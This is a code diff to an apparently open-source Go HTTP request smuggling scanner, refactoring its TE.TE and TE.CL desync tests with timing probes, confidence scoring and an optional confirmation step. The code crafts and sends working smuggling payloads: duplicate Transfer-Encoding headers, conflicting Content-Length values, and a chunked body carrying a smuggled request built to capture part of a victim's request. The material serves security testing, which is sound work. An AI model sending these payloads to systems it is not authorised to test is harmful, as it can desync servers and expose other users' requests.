@@ -2,7 +2,6 @@ package smuggler
 
 import (
 	"fmt"
-	"smuggler/config"
 	"smuggler/smuggler/h1"
 	"smuggler/smuggler/tests"
 	"time"
@@ -14,50 +13,29 @@ type TE struct {
 	*DesyncerImpl
 }
 
-func (te *TE) Run() bool {
-	if config.Glob.Concurrent {
-		defer te.Wg.Done()
-	}
-	if !te.H1Supported {
-		return false
-	}
-	return te.runTETE() || te.runTECL()
-}
-
 func (te *TE) runTETE() bool {
 	log.Info().Str("endpoint", te.URL.String()).Msg("Running TE.TE desync tests...")
-	generator := tests.Generator{}
-	payload := generator.Generate(tests.TE, config.Glob.Test)
-
 	ctr := 0
-	for k, vv := range payload {
-		for _, v := range vv {
-			if err := te.GetCookie(); err != nil {
-				log.Error().Err(err).Msg("")
-				return false
-			}
-			payload := te.NewPl(fmt.Sprintf("%s:%s", k, v))
-			if te._TETE(payload) {
-				ctr++
-				if config.Glob.ExitEarly {
-					log.Info().
-						Str("endpoint", te.URL.String()).
-						Str("status", "success").
-						Msgf("Test stopped on success: PoC payload stored in /result/%s directory", te.URL.Hostname())
-					if config.Glob.Concurrent {
-						te.TestDone <- struct{}{}
-					}
-					return true
-				}
-			}
-			if config.Glob.Concurrent {
-				select {
-				case <-te.Ctx.Done():
-					return false
-				default:
-				}
+	for _, m := range te.mutations(tests.TE) {
+		if err := te.GetCookie(); err != nil {
+			log.Error().Err(err).Msg("")
+			return false
+		}
+		if te._TETE(m) {
+			ctr++
+			if te.Opts.ExitEarly {
+				log.Info().
+					Str("endpoint", te.URL.String()).
+					Str("status", "success").
+					Msgf("Test stopped on success: PoC payload stored in /result/%s directory", te.URL.Hostname())
+				return true
 			}
 		}
+		select {
+		case <-te.Ctx.Done():
+			return false
+		default:
+		}
 	}
 	if ctr > 0 {
 		log.Info().
@@ -73,23 +51,33 @@ func (te *TE) runTETE() bool {
 	return false
 }
 
-func (te *TE) _TETE(p *h1.Payload) bool {
+func (te *TE) _TETE(m tests.Mutation) bool {
+	p := te.NewPl(m.Line())
 	body := "1\r\nG\r\nX\r\n"
-	c := h1.Transport{}
+	c := h1.Transport{TLS: te.Opts.TLS, Dialer: te.Opts.Dialer}
 	pl := te.NewPl(p.HdrPl)
 	pl.Cl = 50
 	pl.Body = body
 
+	timeout, _ := te.timeouts(false)
 	req := h1.Request{
 		Url:     te.URL,
 		Payload: pl,
-		Timeout: time.Second * 3,
+		Timeout: timeout,
 	}
 
+	release, err := te.acquire()
+	if err != nil {
+		return false
+	}
+	start := time.Now()
 	resp, err := c.RoundTrip(&req)
+	release()
+	te.observe(resp)
 	if err != nil {
 		return false
 	}
+	control := newProbe(ProbeNormal, pl.ToString(), time.Since(start), resp.StatusCode)
 
 	resp.Body.Close()
 	if resp.StatusCode != 400 { // expect 400 if front-end uses TE
@@ -97,48 +85,45 @@ func (te *TE) _TETE(p *h1.Payload) bool {
 	}
 
 	// send a duplicate TE and large CL header, timeout expected
+	hdr := p.HdrPl
 	p.HdrPl = fmt.Sprintf("%s\r\n%sx", p.HdrPl, p.HdrPl)
 	p.Cl = 50
 	p.Body = "1\r\nG\r\n0\r\n\r\n"
 	ret, _ := te.H1Test(p)
-	if ret == 1 {
+	if ret.Code == ProbeTimeout && te.recheck(false) {
 		log.Info().Msg("This might be a TE.TE desync symptom")
-		te.GenReport(p)
-		return true
+		f := Finding{
+			Technique: TETE,
+			Header:    hdr,
+			Mutation:  m.ID,
+			Probes:    []Probe{*ret, *control},
+			Signals:   te.timingSignals(false, 1, control, true), // the control has a single header
+		}
+		f.Confidence = confidence(f.Signals)
+		return te.GenReport(p, f)
 	}
 	return false
 }
 
 func (te *TE) runTECL() bool {
 	log.Info().Str("endpoint", te.URL.String()).Msg("Running TECL desync tests...")
-	generator := tests.Generator{}
-	payload := generator.Generate(tests.TE, config.Glob.Test)
-
 	ctr := 0
-	for k, vv := range payload {
-		for _, v := range vv {
-			payload := te.NewPl(fmt.Sprintf("%s:%s", k, v))
-			if te.tecl(payload) {
-				ctr++
-				if config.Glob.ExitEarly {
-					log.Info().
-						Str("endpoint", te.URL.String()).
-						Str("status", "success").
-						Msgf("Test stopped on success: PoC payload stored in /result/%s directory", te.URL.Hostname())
-					if config.Glob.Concurrent {
-						te.TestDone <- struct{}{}
-					}
-					return true
-				}
-			}
-			if config.Glob.Concurrent {
-				select {
-				case <-te.Ctx.Done():
-					return false
-				default:
-				}
+	for _, m := range te.mutations(tests.TE) {
+		if te.tecl(m) {
+			ctr++
+			if te.Opts.ExitEarly {
+				log.Info().
+					Str("endpoint", te.URL.String()).
+					Str("status", "success").
+					Msgf("Test stopped on success: PoC payload stored in /result/%s directory", te.URL.Hostname())
+				return true
 			}
 		}
+		select {
+		case <-te.Ctx.Done():
+			return false
+		default:
+		}
 	}
 	if ctr > 0 {
 		log.Info().
@@ -154,20 +139,22 @@ func (te *TE) runTECL() bool {
 	return false
 }
 
-func (te *TE) tecl(p *h1.Payload) bool {
+func (te *TE) tecl(m tests.Mutation) bool {
+	p := te.NewPl(m.Line())
 	p.Body = "0\r\n\r\nG"
 	p.Cl = 6
+	hdr := p.HdrPl
 
 	ctr := 0
 	for {
 		ret, err := te.H1Test(p)
-		if ret != 1 {
-			if ret == -1 {
+		if ret.Code != ProbeTimeout {
+			if ret.Code == ProbeError {
 				log.Debug().
 					Str("endpoint", te.URL.String()).
 					Str("payload", p.HdrPl).
 					Err(err).Msg("")
-			} else if ret == 2 {
+			} else if ret.Code == ProbeDisconnected {
 				log.Debug().
 					Str("endpoint", te.URL.String()).
 					Msg("disconnected before timeout")
@@ -176,30 +163,53 @@ func (te *TE) tecl(p *h1.Payload) bool {
 		}
 		p.Cl = 5
 		ret2, err := te.H1Test(p)
-		if ret2 == -1 {
+		if ret2.Code == ProbeError {
 			log.Debug().
 				Str("endpoint", te.URL.String()).
 				Err(err).Msg("")
 			return false
 		}
 		p.Cl = 6
-		if ret2 == 0 {
+		if ret2.Code == ProbeNormal {
 			ctr++
 			if ctr < 3 {
 				continue
 			}
+			if !te.recheck(false) {
+				return false
+			}
+			ctl := te.h1Control(p)
 			log.Info().
 				Str("endpoint", te.URL.String()).
+				Str("mutation", m.ID).
 				Msgf("Potential TECL issue found - %s@%s://%s%s",
 					te.Method, te.URL.Scheme, te.URL.String(), te.URL.Path)
+			f := Finding{
+				Technique: TECL,
+				Header:    hdr,
+				Mutation:  m.ID,
+				Probes:    []Probe{*ret, *ret2},
+				Signals:   te.timingSignals(false, ctr, ctl, true), // a connection per probe
+				Controls:  []Probe{*ctl},
+			}
+			f.Confidence = confidence(f.Signals)
+			if te.Opts.Confirm {
+				if f.Evidence, f.Confirmed = te.confirmH1(func(prefix string) *h1.Payload {
+					// the smuggled request absorbs the chunked terminator and the start of the victim
+					inner := fmt.Sprintf("%s\r\nContent-Length: %d\r\n\r\nx=", prefix, len("x=\r\n0\r\n\r\n")+10)
+					a := te.NewPl(hdr)
+					a.Body = fmt.Sprintf("%X\r\n%s\r\n0\r\n\r\n", len(inner), inner)
+					a.Cl = len(fmt.Sprintf("%X\r\n", len(inner)))
+					return a
+				}); !f.Confirmed {
+					return false
+				}
+			}
 			inner := fmt.Sprintf("GET /404 HTTP/1.1\r\nHost: %s\r\nContent-Length: 50\r\n\r\nX=", te.URL.Hostname())
 			tmp := fmt.Sprintf("1\r\nA\r\n%X\r\n%s\r\n0\r\n\r\n", len(inner), inner)
 			p.Body = tmp
 			p.Cl = len(fmt.Sprintf("1\r\nA\r\n%X\r\n", len(inner)))
-			te.H1Test(p)
-			te.H1Test(p)
-			te.GenReport(p)
-			return true // instead return a bool if sth is found
+			return te.GenReport(p, f) // reported, not sent
 		}
 		log.Debug().
 			Str("endpoint", te.URL.String()).